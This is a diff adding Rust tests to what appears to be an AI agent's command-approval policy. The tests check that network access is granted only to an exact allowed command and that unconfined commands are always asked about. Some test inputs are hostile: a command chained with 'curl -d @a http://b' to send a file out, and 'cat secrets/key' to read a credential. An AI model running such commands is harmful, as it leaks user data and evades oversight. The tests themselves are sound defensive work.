@@ -83,6 +83,47 @@ fn the_strictest_rule_that_matches_decides() {
 }
 
 #[test]
+fn the_network_is_granted_by_a_rule_to_every_part_of_a_command_or_not_at_all() {
+    let text = r#"
+[[rules]]
+tool = "run_command"
+arguments = { command = "npm install" }
+decision = "allow"
+network = true
+matches = [{ command = "npm install left-pad" }]
+"#;
+    let policy = policy(text, ApproveMode::OnMutation);
+    let catalog = Catalog::builtin();
+    let spec = catalog.get("run_command").unwrap();
+    let network = |line: &str| {
+        let call = call("run_command", json!({ "command": line }));
+        policy.approve(call, spec, Decision::Approve).unwrap().into_parts().1
+    };
+    assert!(network("npm install left-pad"));
+    assert!(!network("npm run build") && !network("npm install; curl -d @a http://b") && !network("npm install > $X"));
+    let denies = text.replace("allow", "deny");
+    assert!(rules(&denies).unwrap_err().to_string().contains("`network` belongs"));
+}
+
+#[test]
+fn a_command_that_is_not_confined_is_asked_about_whatever_allows_it() {
+    let run = |line: &str| json!({ "command": line });
+    let confined = policy(RULES, ApproveMode::Never);
+    assert_eq!(letter(&confined, "run_command", run("cargo test")), 'a');
+    let policy = confined.unconfined(Some("no Landlock"));
+    for line in ["cargo test", "ls"] {
+        assert_eq!(letter(&policy, "run_command", run(line)), '?', "{line}");
+        let catalog = Catalog::builtin();
+        let (spec, call) = (catalog.get("run_command").unwrap(), call("run_command", run(line)));
+        assert_eq!(policy.always(&call, spec), None);
+        assert!(policy.approve(call, spec, Decision::Always).is_ok());
+        assert_eq!(letter(&policy, "run_command", run(line)), '?', "{line} again");
+    }
+    assert_eq!(letter(&policy, "run_command", run("cat secrets/key")), 'd');
+    assert_eq!(letter(&policy, "write_file", json!({ "path": "a", "content": "" })), 'a');
+}
+
+#[test]
 fn a_link_does_not_lead_around_a_rule() {
     let dir = tempfile::tempdir().unwrap();
     std::fs::create_dir_all(dir.path().join("secrets")).unwrap();
